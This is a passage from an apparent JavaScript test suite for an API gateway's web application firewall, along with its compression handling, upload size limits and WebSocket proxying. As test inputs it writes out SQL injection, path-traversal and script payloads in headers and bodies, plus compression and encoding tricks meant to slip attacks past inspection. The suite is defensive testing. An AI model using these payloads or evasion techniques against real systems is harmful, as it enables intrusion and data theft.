      if (await judge(body, await worker.fetch("/gw/open/submit", { method: "POST", headers: { "content-type": type }, body }), {})) passed += 1;
    }
    const total = attacks.length + bodyAttacks.length;
    const benignTotal = benign.length + benignBodies.length;
    console.log(`# WAF: attacks blocked ${blocked}/${total} (${((100 * blocked) / total).toFixed(0)}%), benign passed ${passed}/${benignTotal} (${((100 * passed) / benignTotal).toFixed(0)}%)`);
    assert.deepEqual(misjudged, [], "every attack blocked by its rule, every benign request passed");
    assert.equal(reachedOrigin, 0, "no attack reached the origin");
  });

  test("the headers origins read as input — cookies, User-Agent, Referer — are checked; browsers' and crawlers' pass", async () => {
    origin.reset();
    // PHP's $_COOKIE and $_REQUEST, cookie-parser, an access log written to SQL: each reads these as the query is read.
    const attacks = [
      [{ cookie: "theme=dark; id=1%27%20OR%20%271%27%3D%271" }, "sqli-tautology"],
      [{ cookie: "sort=name+union+select+password+from+users" }, "sqli-union"],
      [{ cookie: "lang=..%2F..%2F..%2Fetc%2Fpasswd" }, "traversal-dotdot"],
      [{ "user-agent": "Mozilla/5.0', (select sleep(5)))-- -" }, "sqli-function"],
      [{ referer: "https://example.com/<script>alert(1)</script>" }, "xss-script"],
      // The Referer's query as analytics that parse it read it: `+` a space, pair by pair.
      [{ referer: "https://shop.example/search?q=1'+union+select+password+from+users--" }, "sqli-union"],
      // Forwarded to the origin as the client wrote it (the address seen appended), logged by string-built SQL; a
      // language picked from Accept-Language names a translation file.
      [{ "x-forwarded-for": "1' or '1'='1" }, "sqli-tautology"],
      [{ "accept-language": "../../../etc/passwd" }, "traversal-dotdot"],
      // Any entry of the list, not only the first.
      [{ "x-forwarded-for": "10.0.0.1, 127.0.0.1' and sleep(5)#" }, "sqli-function"],
    ];
    for (const [headers, rule] of attacks) {
      const r = await worker.fetch("/gw/open/search", { headers });
      assert.equal(r.status, 403, JSON.stringify(headers));
      assert.equal(r.headers.get("x-waf-rule"), rule, JSON.stringify(headers));
      await r.arrayBuffer();
    }
    assert.equal(origin.requests.length, 0, "no attack reached the origin");
    const benign = [
      { "user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36" },
      { "user-agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone14,2;FBSN/iOS;FBSV/17.0;FBLC/en_US;FBOP/5]" },
      { "user-agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)" },
      // Browsers send another site only its origin (strict-origin-when-cross-origin); a same-site page's query
      // is read as a query is.
      { referer: "https://www.google.com/" },
      { referer: "android-app://com.google.android.gm/" },
      { referer: "https://example.com/search?q=o%27brien+%26+sons&sort=price-asc&page=2" },
      { referer: "https://example.com/search?q=it%27s+like+that#results" },
      { "user-agent": "Mozilla/5.0 (Linux; Android 12; moto g(30)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36" },
      { "user-agent": "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)" },
      { cookie: "wordpress_logged_in_0123456789abcdef=admin%7C1700000000%7CAbCdEfGhIjKl%7C0123456789abcdef; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce" },
      { cookie: 'ajs_user_id="user_12345"; ajs_anonymous_id="a1b2c3d4-e5f6-7890-abcd-ef1234567890"; data=YWJjZGVm+/Z2hp==' },
      { cookie: "__Secure-next-auth.session-token=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..AbCdEfGhIjKlMnOp.AbCd-_Ef.GhIj; __cf_bm=Ab3dEf.GhIj_Kl-1700000000-1.0.1.1-AbCd" },
      { cookie: "_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2ln--_x; theme=dark" },
      { cookie: "OptanonConsent=isGpcEnabled=0&datestamp=Thu+Jan+01+2024+00%3A00%3A00+GMT%2B0100+(Central+European+Standard+Time)&groups=C0001%3A1%2CC0002%3A0" },
      { cookie: "CookieConsent={stamp:%27AbC%2B/dEf%3D%3D%27%2Cnecessary:true%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1}" },
      { cookie: 'prefs=j%3A%7B%22sort%22%3A%22name%22%2C%22q%22%3A%22O\'Brien%22%7D' },
      { "x-forwarded-for": "203.0.113.195, 70.41.3.18, 2001:db8::1, unknown" },
      { "accept-language": "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7" },
      { "accept-language": "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5" },
      { "accept-language": "es-419,es;q=0.9,zh-Hant-TW;q=0.8,sr-Latn-RS;q=0.7,*;q=0.1" },
      // Ports, bracketed IPv6 and RFC 7239's obfuscated identifiers, as proxies write them.
      { "x-forwarded-for": "203.0.113.195:41237, [2001:db8::1]:443, unknown, _hidden, _SEVKISEK" },
    ];
    for (const headers of benign) {
      const r = await worker.fetch("/gw/open/search", { headers });
      assert.equal(r.status, 200, `${JSON.stringify(headers)}: ${r.headers.get("x-waf-rule")}`);
      await r.arrayBuffer();
    }
    origin.reset();
  });

  test("a body in gzip or deflate is read inflated: an attack is refused by its own rule, a benign body reaches the origin as sent", async () => {
    const { deflateSync, deflateRawSync, gzipSync, brotliCompressSync, inflateSync, inflateRawSync, gunzipSync, createGzip, crc32, constants: zlibConstants } = await import("node:zlib");
    const { once } = await import("node:events");
    origin.reset();
    const post = (type, coding, body) =>
      worker.fetch("/gw/open/coded", { method: "POST", headers: { "content-type": type, ...(coding ? { "content-encoding": coding } : {}) }, body });
    // The rule the same bytes uncoded meet: the coded body must meet it too.
    const ruleOf = async (type, body) => {
      const r = await post(type, null, body);
      await r.arrayBuffer();
      assert.equal(r.status, 403, `${type}: the attack uncoded is refused`);
      return r.headers.get("x-waf-rule");
    };
    // Deflated at level 1 with this padding, the attack holds no NUL byte (which the null-byte rule would catch by
    // chance); Express's body parser inflates it and hands the application `x' union select …`.
    const json = JSON.stringify({ q: "x' union select password from users--", p: "a".repeat(20) });
    const zlibbed = deflateSync(json, { level: 1 });
    assert.ok(!zlibbed.includes(0), "a compressed attack without NUL bytes");
    const xss = JSON.stringify({ c: "<script>alert(1)</script>" });
    const benign = JSON.stringify({ q: "a fine day for a walk", n: [1, 2, 3] });
    const cases = [
      ["application/json", "deflate", json, zlibbed],
      ["application/x-www-form-urlencoded", "deflate", json, zlibbed],
      ["text/plain", "deflate", json, zlibbed],
      ["application/octet-stream", "gzip", json, gzipSync(json)],
      ["image/png", "deflate", json, zlibbed],
      ["application/csp-report", "gzip", json, gzipSync(json)],
      ["application/json", "gzip", xss, gzipSync(xss)],
      ["application/x-www-form-urlencoded", "x-gzip", xss, gzipSync(xss)],
      // Raw deflate, as ASP.NET Core's DeflateStream reads `deflate`.
      ["application/json", "deflate", json, deflateRawSync(json)],
      // Node's gunzip reads every member: the attack in the second.
      ["application/json", "gzip", json, Buffer.concat([gzipSync(benign), gzipSync(json)])],
    ];
    for (const [type, coding, plain, coded] of cases) {
      const expected = await ruleOf(type, plain);
      assert.notEqual(expected, "body-encoding");
      const r = await post(type, coding, coded);
      assert.equal(r.status, 403, `${type} in ${coding}: ${r.status === 403 ? "" : await r.clone().text()}`);
      assert.equal(r.headers.get("x-waf-rule"), expected, `${type} in ${coding}: the attack's own rule`);
      assert.equal((await r.json()).error.code, "waf_blocked");
    }
    // Codings the WAF cannot read back, stacked codings and streams no decoder takes: refused as before.
    const gz = gzipSync(benign);
    const corrupt = Buffer.from(gz);
    corrupt[14] ^= 0x55;
    for (const [coding, body] of [
      ["br", brotliCompressSync(benign)],
      ["gzip, gzip", gzipSync(gz)],
      ["zstd", Buffer.from(benign)],
      ["gzip", corrupt],
      ["gzip", Buffer.concat([gz, Buffer.from("trailing")])],
      ["deflate", gz],
      // Raw deflate that zlib reads as "hello" after 2,000 empty fixed-code blocks (10 bits each): each block costs
      // the inflater its tables, so more blocks than their output pays for are refused.
      ["deflate", Buffer.concat([...Array(500).fill(Buffer.from([0x02, 0x08, 0x20, 0x80, 0x00])), Buffer.from([0x01, 0x05, 0x00, 0xfa, 0xff]), Buffer.from("hello")])],
    ]) {
      const r = await post("application/json", coding, body);
      assert.equal(r.status, 403, `${coding}: ${r.status === 403 ? "" : await r.clone().text()}`);
      assert.equal(r.headers.get("x-waf-rule"), "body-encoding", coding);
      await r.arrayBuffer();
    }
    // Bytes that are zlib to Node (one stored block) and raw deflate to ASP.NET Core (`78` a stored block of the one
    // byte `01`, then the zlib block's bytes as blocks: an empty stored block, 100 empty fixed-code blocks, the
    // attack): the raw reading is over the block budget before the attack, and refused although zlib's decodes.
    const adler32 = (bytes) => {
      let [a, b] = [1, 0];
      for (const byte of bytes) [a, b] = [(a + byte) % 65521, (b + (a + byte) % 65521) % 65521];
      return ((b << 16) | a) >>> 0;
    };
    const stored = Buffer.alloc(0xfffe, " ");
    Buffer.concat([Buffer.from([0, 0, 0xff, 0xff]), ...Array(25).fill(Buffer.from([0x02, 0x08, 0x20, 0x80, 0x00])), deflateRawSync(json, { level: 1 })]).copy(stored);
    const trailer = Buffer.alloc(6);
    trailer.set([0x03, 0x00]);
    trailer.writeUInt32BE(adler32(stored), 2);
    const polyglot = Buffer.concat([Buffer.from([0x78, 0x01, 0x00, 0xfe, 0xff, 0x01, 0x00]), stored, trailer]);
    assert.equal(inflateSync(polyglot).length, 0xfffe, "zlib reads the stored block");
    assert.ok(inflateRawSync(polyglot).toString().endsWith(json), "raw deflate reads the attack");
    const r = await post("application/octet-stream", "deflate", polyglot);
    assert.equal(r.status, 403, "polyglot: refused");
    assert.equal(r.headers.get("x-waf-rule"), "body-encoding");
    await r.arrayBuffer();
    assert.equal(origin.requests.length, 0, "no refused body reached the origin");
    // Benign bodies pass, and the origin gets the coded bytes as they were sent, with their coding.
    const zl = deflateSync(benign);
    const bomb = gzipSync(Buffer.alloc(10 * 1024 * 1024, " "));
    // NDJSON records gzipped by a client that flushes after each (an empty stored block per record).
    const flushed = createGzip();
    const parts = [];
    flushed.on("data", (c) => parts.push(c));
    for (let i = 0; i < 300; i++) {
      flushed.write(`${JSON.stringify({ ts: 1700000000 + i, level: "info", msg: "request served", path: `/api/items/${i}` })}\n`);
      await new Promise((resolve) => flushed.flush(zlibConstants.Z_SYNC_FLUSH, resolve));
    }
    flushed.end();
    await once(flushed, "end");
    const ndjson = Buffer.concat(parts);
    // A BGZF member (bgzip's .vcf.gz): its extra field `BC` holds the member's size, NUL bytes and all.
    const vcf = Buffer.from("#CHROM\tPOS\tID\tREF\tALT\n1\t10177\trs367896724\tA\tAC\n");
    const bgzfData = deflateRawSync(vcf);
    const bgzfHeader = Buffer.from([0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 0, 0xff, 6, 0, 0x42, 0x43, 2, 0, 0, 0]);
    bgzfHeader.writeUInt16LE(bgzfHeader.length + bgzfData.length + 8 - 1, 16);
    const bgzfTrailer = Buffer.alloc(8);
    bgzfTrailer.writeUInt32LE(crc32(vcf), 0);
    bgzfTrailer.writeUInt32LE(vcf.length, 4);
    const bgzf = Buffer.concat([bgzfHeader, bgzfData, bgzfTrailer]);
    assert.ok(gunzipSync(bgzf).equals(vcf));
    for (const [type, coding, body] of [
      ["application/json", "gzip", gz],
      ["application/json", "deflate", zl],
      ["application/json", "identity, gzip", gz],
      ["text/plain", "gzip", bomb],
      ["application/x-ndjson", "gzip", ndjson],
      ["text/plain", "gzip", bgzf],
    ]) {
      origin.reset();
      const r = await post(type, coding, body);
      assert.equal(r.status, 200, `${type} in ${coding}: ${await r.clone().text()}`);
      await r.arrayBuffer();
      assert.equal(origin.requests.length, 1);
      assert.equal(origin.requests[0].headers["content-encoding"], coding);
      assert.ok(origin.requests[0].body.equals(body), `${coding}: the origin received the exact coded bytes`);
    }
    origin.reset();
  });

  test("a gzipped body over the inspection cap is read inflated up to the cap and streamed whole, sized or chunked", async () => {
    const { gzipSync } = await import("node:zlib");
    origin.reset();
    // Words from a fixed sequence: about 3:1 in gzip, so the coded body is well over the 64 KiB cap too.
    let x = 7;
    const words = [];
    for (let length = 0; length < 600_000; length += words.at(-1).length + 1) {
      x = (x * 48271) % 2147483647;
      words.push(`w${x % 100000}`);
    }
    const text = words.join(" ");
    const benign = gzipSync(JSON.stringify({ text }));
    assert.ok(benign.length > 128 * 1024, `coded ${benign.length} bytes`);
    const sized = await worker.fetch("/gw/open/coded-long", { method: "POST", headers: { "content-type": "application/json", "content-encoding": "gzip" }, body: benign });
    assert.equal(sized.status, 200, await sized.clone().text());
    await sized.arrayBuffer();
    assert.ok(origin.requests.at(-1).body.equals(benign), "sized: the origin received the exact coded bytes");
    const chunked = await codedUpload("/gw/open/coded-chunked", benign, "gzip");
    assert.equal(chunked.status, 200, chunked.body);
    const seen = origin.requests.at(-1);
    assert.equal(seen.headers["transfer-encoding"], "chunked");
    assert.ok(seen.body.equals(benign), "chunked: the origin received the exact coded bytes");
    // An attack in the inflated prefix of a long body is found, sized or chunked.
    origin.reset();
    const attack = gzipSync(JSON.stringify({ q: "x' union select password from users--", text }));
    const r = await worker.fetch("/gw/open/coded-long", { method: "POST", headers: { "content-type": "application/json", "content-encoding": "gzip" }, body: attack });
    assert.equal(r.status, 403, await r.clone().text());
    assert.match(r.headers.get("x-waf-rule"), /^sqli-/);
    await r.arrayBuffer();
    const c = await codedUpload("/gw/open/coded-chunked", attack, "gzip");
    assert.equal(c.status, 403, c.body);
    assert.match(c.headers["x-waf-rule"], /^sqli-/);
    assert.equal(origin.requests.length, 0, "no attack reached the origin");
    origin.reset();
  });

  test("size rules: oversize headers are blocked; a body over the inspection cap is inspected up to it and streamed whole", async () => {
    const big = await worker.fetch("/gw/open/x", { headers: { "x-big": "a".repeat(20_000) } });
    assert.equal(big.status, 403);
    assert.equal(big.headers.get("x-waf-rule"), "size-headers");
    await big.arrayBuffer();
    origin.reset();
    origin.handle((req, body, res) => res.end(String(body.length)));
    const early = Buffer.concat([Buffer.from("<script>"), Buffer.alloc(200_000, "b")]);
    const r1 = await worker.fetch("/gw/open/upload", { method: "POST", headers: { "content-type": "text/plain" }, body: early });
    assert.equal(r1.status, 403, `an attack inside the inspected prefix is caught: ${r1.status === 403 ? "" : await r1.clone().text()}`);
    await r1.arrayBuffer();
    const late = Buffer.concat([Buffer.alloc(200_000, "b"), Buffer.from("<script>")]);
    const r2 = await worker.fetch("/gw/open/upload", { method: "POST", headers: { "content-type": "text/plain" }, body: late });
    assert.equal(r2.status, 200, "past the cap the body is forwarded uninspected");
    assert.equal(await r2.text(), String(late.length), "and whole");
    origin.reset();
  });

  test("a multipart upload whose second part's headers the inspection cap cuts reaches the origin whole", async () => {
    // A PNG's NUL bytes first, then a part whose headers straddle the 64 KiB cap: the prefix is still a form.
    origin.reset();
    const head = (name, file) => Buffer.from(`--XyZ\r\nContent-Disposition: form-data; name="${name}"; filename="${file}"\r\nContent-Type: image/png\r\n\r\n`);
    const signature = Buffer.from("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "latin1");
    const png = Buffer.concat([signature, Buffer.alloc(65_536 - 30 - head("a", "a.png").length - 2 - signature.length, 0)]);
    const first = Buffer.concat([head("a", "a.png"), png, Buffer.from("\r\n")]);
    const second = head("b", "b.png");
    const cut = 65_536 - first.length;
    assert.ok(cut > 0 && cut < second.length - 4, `the cap falls inside the second part's headers (${cut})`);
    const body = Buffer.concat([first, second, png, Buffer.from("\r\n--XyZ--\r\n")]);
    const r = await worker.fetch("/gw/open/upload", { method: "POST", headers: { "content-type": "multipart/form-data; boundary=XyZ" }, body });
    assert.equal(r.status, 200, `${r.headers.get("x-waf-rule")}: ${await r.clone().text()}`);
    await r.arrayBuffer();
    assert.ok(origin.requests.at(-1).body.equals(body), "the origin received the exact body");
    origin.reset();
  });

  test("a path's + is read as a space too, as a form decoder handed the path reads it", async () => {
    origin.reset();
    const r = await worker.fetch("/gw/open/search/1+union+select+password+from+users");
    assert.equal(r.status, 403);
    assert.equal(r.headers.get("x-waf-rule"), "sqli-union");
    await r.arrayBuffer();
    const ok = await worker.fetch("/gw/open/wiki/C++/rock+roll");
    assert.equal(ok.status, 200, await ok.clone().text());
    await ok.arrayBuffer();
    assert.equal(origin.requests.length, 1, "only the benign path reached the origin");
    origin.reset();
  });

  test("an attack split over a multipart form's fields of one name is read joined, as ASP.NET joins them", async () => {
    origin.reset();
    const field = (name, value) => `--XyZ\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
    const post = (body) => worker.fetch("/gw/open/items", { method: "POST", headers: { "content-type": "multipart/form-data; boundary=XyZ" }, body });
    const r = await post(`${field("id", "1 union/*")}${field("id", "*/select password from users")}--XyZ--\r\n`);
    assert.equal(r.status, 403, await r.clone().text());
    assert.equal(r.headers.get("x-waf-rule"), "sqli-union");
    await r.arrayBuffer();
    const benign = `${field("tag", "union")}${field("tag", "select")}--XyZ--\r\n`;
    const ok = await post(benign);
    assert.equal(ok.status, 200, await ok.clone().text());
    await ok.arrayBuffer();
    assert.equal(origin.requests.length, 1, "only the benign form reached the origin");
    assert.equal(origin.requests[0].body.toString(), benign);
    origin.reset();
  });

  test("an attack split over a JSON array's strings is read joined, as JavaScript makes a string of the array", async () => {
    origin.reset();
    const post = (body) => worker.fetch("/gw/open/items", { method: "POST", headers: { "content-type": "application/json" }, body });
    // Numbers and nested arrays too: String(["1 union/*", 0, "*/select …"]) is "1 union/*,0,*/select …".
    for (const id of [["1 union/*", "*/select password from users"], ["1 union/*", 0, "*/select password from users"], [["1 union/*"], ["*/select password from users"]]]) {
      const r = await post(JSON.stringify({ id }));
      assert.equal(r.status, 403, await r.clone().text());
      assert.equal(r.headers.get("x-waf-rule"), "sqli-union", JSON.stringify(id));
      await r.arrayBuffer();
    }
    const benign = JSON.stringify({ tags: ["union", 1, "select", 2, "from"], names: ["O'Brien", "D'Angelo"] });
    const ok = await post(benign);
    assert.equal(ok.status, 200, await ok.clone().text());
    await ok.arrayBuffer();
    assert.equal(origin.requests.length, 1, "only the benign body reached the origin");
    assert.equal(origin.requests[0].body.toString(), benign);
    origin.reset();
  });

  test("a refused upload is read before its answer (WAF, no token), and the connection stays open for the next request", async () => {
    // The WAF reads a body's first bytes from one branch of a tee and the rest waits in the other: that branch is
    // drained before the 403, as the entry drains before a 404 (read 1 MiB, workerd closed the connection after).
    origin.reset();
    const size = 3 * 1024 * 1024; // under max_body_bytes
    const attack = Buffer.concat([Buffer.from("<script>"), Buffer.alloc(size - 8, "b")]);
    const next = "GET /health HTTP/1.1\r\nHost: x\r\n\r\n";
    for (const [what, head, body, status] of [
      ["an attack in the inspected prefix", "POST /gw/open/upload HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n", attack, 403],
      ["an upload without a token to a JWT route", "POST /gw/secure/upload HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n", Buffer.alloc(size, "b"), 401],
    ]) {
      const parts = [`${head}Content-Length: ${size}\r\n\r\n`, body, next];
      const { statuses, ended } = await onOneConnection(worker.url, parts, { answers: 2, what: `${what}: two answers` });
      assert.deepEqual(statuses, [status, 200], `${what}: the answers on one connection (it ended: ${ended})`);
    }
    assert.equal(origin.requests.length, 0, "neither reached the origin");
  });

  test("an upload the origin could not be sent is read before the 502, and the connection stays open for the next request", async () => {
    // A body over the inspection cap, a chunked one, or any on a route whose bodies the WAF does not read streams to
    // the origin as it comes. When the origin could not be reached, the rest of it was left unread: workerd closed
    // the connection after the 502 — or reset it first, and the client never saw the 502 (ECONNRESET).
    const size = 3 * 1024 * 1024; // over the inspection cap, under max_body_bytes
    const next = "GET /health HTTP/1.1\r\nHost: x\r\n\r\n";
    const chunked = Buffer.concat([Buffer.from(`${size.toString(16)}\r\n`), Buffer.alloc(size, "b"), Buffer.from("\r\n0\r\n\r\n")]);
    for (const [what, path, framing, body] of [
      ["sized", "/gw/nowhere/upload", `Content-Length: ${size}`, Buffer.alloc(size, "b")],
      ["chunked", "/gw/nowhere/upload", "Transfer-Encoding: chunked", chunked],
      ["sized, unread by the WAF", "/gw/nowhere/raw", `Content-Length: ${size}`, Buffer.alloc(size, "b")],
      ["chunked, unread by the WAF", "/gw/nowhere/raw", "Transfer-Encoding: chunked", chunked],
    ]) {
      const head = `PUT ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n${framing}\r\n\r\n`;
      const { statuses, ended } = await onOneConnection(worker.url, [head, body, next], { answers: 2, what: `${what}: two answers` });
      assert.deepEqual(statuses, [502, 200], `${what}: the answers on one connection (it ended: ${ended})`);
    }
  });

  test("max_body_bytes holds for chunked uploads (no Content-Length): under it intact, past it cut off with 403", async () => {
    origin.reset();
    origin.handle((req, body, res) => res.end(`${req.headers["content-length"] ?? "chunked"} ${body.length}`));
    const under = await chunkedUpload("/gw/open/upload-under", MAX_BODY_BYTES);
    assert.equal(under.status, 200);
    assert.equal(under.body, `chunked ${MAX_BODY_BYTES}`, "exactly max_body_bytes streams through whole");

    const over = await chunkedUpload("/gw/open/upload-over", MAX_BODY_BYTES + 2 * 1024 * 1024);
    assert.equal(over.status, 403, over.body);
    assert.equal(over.headers["x-waf-rule"], "size-body");
    assert.equal(JSON.parse(over.body).error.code, "waf_blocked");
    const seen = await until(() => origin.requests.find((r) => r.path === "/open/upload-over"), { what: "the origin's record of the cut upload" });
    assert.equal(seen.aborted, true, "the origin's request was cut off");
    assert.ok(seen.body.length <= MAX_BODY_BYTES, `the origin got at most max_body_bytes (${seen.body.length})`);
    origin.reset();
  });

  test("a chunked upload that also declares a Content-Length is read by its chunks: max_body_bytes holds, and the length refuses nothing", async () => {
    // RFC 9112 §6.3: Transfer-Encoding overrides Content-Length, and the runtime reads the body by its chunks. The
    // declared 10 bytes were believed: the whole 6 MiB body was read into memory and forwarded past max_body_bytes.
    origin.reset();
    origin.handle((req, body, res) => res.end(String(body.length)));
    const head = (path, length) =>
      `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: ${length}\r\nTransfer-Encoding: chunked\r\n\r\n`;
    const over = await onOneConnection(worker.url, [head("/gw/open/te-cl-over", 10), ...chunkedBody(MAX_BODY_BYTES + 2 * 1024 * 1024, "b")], { what: "the answer to the long body" });
    assert.deepEqual(over.statuses, [403], "a body past max_body_bytes is refused, whatever length it declares");
    const seen = await until(() => origin.requests.find((r) => r.path === "/open/te-cl-over"), { what: "the origin's record of the cut upload" });
    assert.equal(seen.aborted, true, `the origin's request was cut off (it got ${seen.body.length} bytes)`);
    const under = await onOneConnection(worker.url, [head("/gw/open/te-cl-under", MAX_BODY_BYTES + 1), ...chunkedBody(64 * 1024, "b")], { what: "the answer to the short body" });
    assert.deepEqual(under.statuses, [200], "a declared length past max_body_bytes beside chunks refuses nothing");
    assert.equal(origin.requests.find((r) => r.path === "/open/te-cl-under")?.body.length, 64 * 1024);
    origin.reset();
  });

  test("a chunked upload cut off at max_body_bytes is read before its 403, and the connection stays open for the next request", async () => {
    // The counting stream let the rest of the body go unread (it cancelled it): workerd closed the connection after
    // the 403, and the request sent behind the upload on it was lost.
    origin.reset();
    origin.handle((req, body, res) => res.end(String(body.length)));
    const parts = [
      "POST /gw/open/upload-over-kept HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n",
      ...chunkedBody(MAX_BODY_BYTES + 2 * 1024 * 1024, "b"),
      "GET /health HTTP/1.1\r\nHost: x\r\n\r\n",
    ];
    const { statuses, ended } = await onOneConnection(worker.url, parts, { answers: 2, what: "two answers" });
    assert.deepEqual(statuses, [403, 200], `the answers on one connection (it ended: ${ended})`);
    const seen = await until(() => origin.requests.find((r) => r.path === "/open/upload-over-kept"), { what: "the origin's record of the cut upload" });
    assert.equal(seen.aborted, true, "the origin's request was still cut off");
    origin.reset();
  });

  test("a chunked upload the client breaks off reaches the origin as cut off, never as a shorter complete body", async () => {
    // Counted for the WAF on its way (/gw/open), and streamed straight through on a route whose bodies the WAF
    // does not read (/gw/raw, waf_body off).
    for (const [method, path] of [["POST", "/gw/open/upload-broken"], ["PUT", "/gw/raw/upload-broken"]]) {
      origin.reset();
      origin.handle((req, body, res) => res.end(String(body.length)));
      const req = httpRequest(new URL(path, worker.url), { method, agent: false, headers: { "content-type": "application/octet-stream" } });
      req.on("error", () => {});
      const chunk = Buffer.alloc(64 * 1024, "b");
      for (let i = 0; i < 16; i++) req.write(chunk);
      await until(() => origin.inFlight > 0, { what: `${path}: the upload reaching the origin` });
      req.destroy();
      const seen = await until(() => origin.requests.find((r) => r.path.endsWith("/upload-broken")), { what: `${path}: the origin's record of the broken upload` });
      assert.equal(seen.aborted, true, `${path}: the origin saw the upload cut off (it got ${seen.body.length} bytes)`);
    }
    origin.reset();
  });

  test("a small body its client breaks off (read whole for the WAF) never reaches the origin as a shorter complete one", async () => {
    origin.reset();
    const { hostname, port } = new URL(worker.url);
    const sock = connect(Number(port), hostname);
    await new Promise((resolve, reject) => sock.once("connect", resolve).once("error", reject));
    sock.on("error", () => {});
    sock.write("POST /gw/open/small-broken HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: 1000\r\n\r\n" + "s".repeat(500));
    await new Promise((resolve) => sock.write("", resolve));
    sock.destroy();
    // The Worker's own line for it (an error is always logged), or the origin's record of it: whichever comes.
    await until(
      () =>
        origin.requests.some((r) => r.path === "/open/small-broken") ||
        worker.jsonLogs().some((l) => l.msg === "request" && l.path === "/gw/open/small-broken"),
      { what: "the broken upload handled" },
    );
    const seen = origin.requests.find((r) => r.path === "/open/small-broken");
    assert.ok(!seen || seen.aborted, `the origin got ${seen?.body.length} bytes as a complete body`);
  });
});

/**
 * Opens a WebSocket through the Worker: { status: 101, ws, headers (of the 101) } once open, or { status, headers,
 * body } when the handshake is answered without an upgrade.
 */
function openSocket(path, { headers = {}, protocols = [] } = {}) {
  return new Promise((resolve, reject) => {
    let upgraded;
    const ws = new WebSocket(new URL(path, worker.url).href.replace(/^http/, "ws"), protocols, { headers });
    ws.on("upgrade", (res) => (upgraded = res.headers));
    ws.on("open", () => resolve({ status: 101, ws, headers: upgraded }));
    ws.on("unexpected-response", (req, res) => {
      const chunks = [];
      res.on("data", (c) => chunks.push(c));
      res.on("end", () => resolve({ status: res.statusCode, headers: res.headers, body: Buffer.concat(chunks).toString() }));
    });
    ws.on("error", reject);
  });
}

/** The next message `ws` receives: { text, binary }. */
const nextMessage = (ws) =>
  new Promise((resolve) => ws.once("message", (data, binary) => resolve({ text: data.toString(), binary })));

/** The close `ws` sees: { code, reason }. */
const closed = (ws) => new Promise((resolve) => ws.once("close", (code, reason) => resolve({ code, reason: reason.toString() })));

describe("WebSocket routes", () => {
  test("a handshake with a valid token is proxied: messages echo both ways, the origin sees the gateway's headers, closes cross both ways", async () => {
    const traceId = "4bf92f3577b34da6a3ce929d0e0e4736";
    const opened = await openSocket("/gw/ws/chat?room=7", {
      protocols: ["chat.v1", "chat.v0"],
      headers: {
        ...bearer(token(keys, "ed1", { sub: "ws-user-1" })),
        "x-user-id": "admin",
        "x-request-id": "ws-req-1",
        traceparent: `00-${traceId}-00f067aa0ba902b7-01`,
      },
    });
    assert.equal(opened.status, 101, opened.body);
    const { ws } = opened;
    assert.equal(ws.protocol, "chat.v1", "the protocol the origin chose reaches the client");
    assert.equal(opened.headers["x-trace-id"], traceId);
    assert.equal(opened.headers["ratelimit-policy"], '"gw-ws";q=3;w=60');
    const seen = wsOrigin.handshakes.at(-1);
    assert.equal(seen.path, "/chat?room=7");
    assert.equal(seen.headers.upgrade, "websocket");
    assert.equal(seen.headers["sec-websocket-version"], "13");
    assert.equal(seen.headers["sec-websocket-protocol"], "chat.v1,chat.v0");
    assert.equal(seen.headers["x-user-id"], "ws-user-1", "from the verified token, not the client's");
    assert.equal(seen.headers["x-user-permissions"], "read");
    assert.equal(seen.headers["x-request-id"], "ws-req-1");
    assert.match(seen.headers.traceparent, new RegExp(`^00-${traceId}-[0-9a-f]{16}-01$`));
    assert.equal(seen.headers["x-forwarded-proto"], "http");
    assert.match(seen.headers["x-forwarded-host"], /^127\.0\.0\.1:\d+$/);
    assert.equal(seen.headers.authorization?.startsWith("Bearer "), true);

    ws.send("hello");
    assert.deepEqual(await nextMessage(ws), { text: "echo:hello", binary: false });
    ws.send(Buffer.from([1, 2, 3]));
    const binary = await nextMessage(ws);
    assert.equal(binary.binary, true);
    assert.equal(binary.text, "echo:\x01\x02\x03");
    // The client's close reaches the origin, code and reason.
    const closes = wsOrigin.closes.length;
    const ended = closed(ws);
    ws.close(4000, "client bye");
    await ended;
    await until(() => wsOrigin.closes.length > closes, { what: "the origin to see the close" });
    const { code, reason } = wsOrigin.closes.at(-1);
    assert.deepEqual({ code, reason }, { code: 4000, reason: "client bye" });

    // The origin's close reaches the client.
    const again = await openSocket("/gw/ws/chat", { headers: bearer(token(keys, "ed1", { sub: "ws-user-1" })) });
    assert.equal(again.status, 101, again.body);
    const byOrigin = closed(again.ws);
    again.ws.send("bye");
    assert.deepEqual(await byOrigin, { code: 4001, reason: "origin bye" });
  });

  test("a handshake is refused as a GET would be: 401 without a token, 403 by the WAF, 429 past the limit, none reaching the origin", async () => {
    const asked = wsOrigin.handshakes.length;
    const anonymous = await openSocket("/gw/ws/chat");
    assert.equal(anonymous.status, 401);
    const attack = await openSocket("/gw/ws/chat?q=" + encodeURIComponent("x' union select password from users--"), {
      headers: bearer(token(keys, "ed1", { sub: "ws-user-2" })),
    });
    assert.equal(attack.status, 403);
